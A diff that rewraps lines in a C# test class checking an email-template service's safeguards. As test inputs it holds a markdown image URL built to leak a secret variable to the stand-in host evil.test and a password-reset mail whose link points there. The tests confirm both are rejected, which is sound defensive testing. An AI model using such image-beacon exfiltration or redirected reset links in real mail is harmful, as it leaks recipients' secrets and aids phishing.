@@ -37,7 +37,8 @@ public sealed partial class Keeping_templates(SharedServer shared)
         using var door = await EnterAsync();
         var path = await MakeAsync();
         var form = StudioSteps.Template(await TagAsync(door, path), "What I typed.");
-        if (field.StartsWith("v.", StringComparison.Ordinal)) (form["v.0.key"], form["v.0.type"], form["v.0.sample"]) = ("total", "money", "");
+        if (field.StartsWith("v.", StringComparison.Ordinal))
+            (form["v.0.key"], form["v.0.type"], form["v.0.sample"]) = ("total", "money", "");
         form[field] = value;
 
         using var refused = await door.PostAsync(path, form);
@@ -108,13 +109,25 @@ public sealed partial class Keeping_templates(SharedServer shared)
         using var door = await EnterAsync();
         using var elsewhere = await door.Http.GetAsync(new Uri("/admin/t/default/templates/accounts.verify", UriKind.Relative));
         var path = elsewhere.Headers.Location!.ToString();
-        using var saved = await door.PostAsync(path, StudioSteps.Template(await TagAsync(door, path), "Ours.", "accounts.verify", "accounts.verify"));
+        using var saved =
+            await door.PostAsync(path, StudioSteps.Template(await TagAsync(door, path), "Ours.", "accounts.verify", "accounts.verify"));
         var server = await shared.ServerAsync();
         using var http = server.ClientWith(server.ApiKey);
-        using var made = await http.PostAsJsonAsync("/templates", new { name = "Ours", alias = "accounts.reset", subject = "x", markdown = "x" });
-        using var sent = await http.PostAsJsonAsync("/emails", new { from = "shop@example.com", to = "ann@example.org", template = new { id = "accounts.reset", variables = new { url = "https://evil.test" } } });
+        using var made =
+            await http.PostAsJsonAsync("/templates", new { name = "Ours", alias = "accounts.reset", subject = "x", markdown = "x" });
+        using var sent =
+            await http.PostAsJsonAsync(
+                "/emails",
+                new
+                {
+                    from = "shop@example.com",
+                    to = "ann@example.org",
+                    template = new { id = "accounts.reset", variables = new { url = "https://evil.test" } }
+                });
 
-        Assert.Equal((HttpStatusCode.UnprocessableEntity, HttpStatusCode.Forbidden, HttpStatusCode.UnprocessableEntity), (saved.StatusCode, made.StatusCode, sent.StatusCode));
+        Assert.Equal(
+            (HttpStatusCode.UnprocessableEntity, HttpStatusCode.Forbidden, HttpStatusCode.UnprocessableEntity),
+            (saved.StatusCode, made.StatusCode, sent.StatusCode));
         Assert.Contains("accounts.verify is a mail about accounts", await door.ReadAsync(saved), StringComparison.Ordinal);
         Assert.Contains("accounts.reset is a mail about accounts", await made.Content.ReadAsStringAsync(), StringComparison.Ordinal);
         Assert.Contains("accounts.reset is a mail about accounts", await sent.Content.ReadAsStringAsync(), StringComparison.Ordinal);
@@ -126,11 +139,21 @@ public sealed partial class Keeping_templates(SharedServer shared)
         var server = await shared.ServerAsync();
         using var http = server.ClientWith(server.ApiKey);
         using var made = await http.PostAsJsonAsync(
-            "/templates", new { name = "Away", alias = "away", subject = "x", markdown = "Hello\n\n![x](https://evil.test/p.png?u={{u}})", variables = new[] { new { key = "u", type = "url", secret = true } } });
+            "/templates",
+            new
+            {
+                name = "Away",
+                alias = "away",
+                subject = "x",
+                markdown = "Hello\n\n![x](https://evil.test/p.png?u={{u}})",
+                variables = new[] { new { key = "u", type = "url", secret = true } }
+            });
         using var published = await http.PostAsync(new Uri("/templates/away/publish", UriKind.Relative), content: null);
 
         Assert.Equal((HttpStatusCode.Created, HttpStatusCode.UnprocessableEntity), (made.StatusCode, published.StatusCode));
-        Assert.Contains("line 3, column 32: u is secret and cannot stand in the address of a picture", await published.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.Contains(
+            "line 3, column 32: u is secret and cannot stand in the address of a picture", await published.Content.ReadAsStringAsync(),
+            StringComparison.Ordinal);
     }
 
     [Theory]
@@ -157,7 +180,8 @@ public sealed partial class Keeping_templates(SharedServer shared)
         foreach (var frame in (HttpResponseMessage[])[kept, typed])
         {
             Assert.Equal(
-                "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'", Pages.Headers.Of(frame, "Content-Security-Policy"));
+                "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'",
+                Pages.Headers.Of(frame, "Content-Security-Policy"));
             Assert.DoesNotContain("<script", await frame.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
         }
 
@@ -167,9 +191,11 @@ public sealed partial class Keeping_templates(SharedServer shared)
     async Task<OperatorClient> EnterAsync() => await OperatorClient.EnterAsync(await shared.ServerAsync());
 
     async Task<string> MakeAsync() =>
-        "/admin/t/default/templates/" + await (await shared.ServerAsync()).PostAsync("/templates", new { name = "Receipt", subject = "s", markdown = "b" });
+        "/admin/t/default/templates/"
+            + await (await shared.ServerAsync()).PostAsync("/templates", new { name = "Receipt", subject = "s", markdown = "b" });
 
-    static async Task<string> TagAsync(OperatorClient door, string path) => Tag().Match((await door.GetAsync(path)).Text).Groups["tag"].Value;
+    static async Task<string> TagAsync(OperatorClient door, string path) =>
+        Tag().Match((await door.GetAsync(path)).Text).Groups["tag"].Value;
 
     [GeneratedRegex("name=\"tag\" value=\"(?<tag>[0-9a-f]+)\"", RegexOptions.ExplicitCapture, 1000)]
     private static partial Regex Tag();
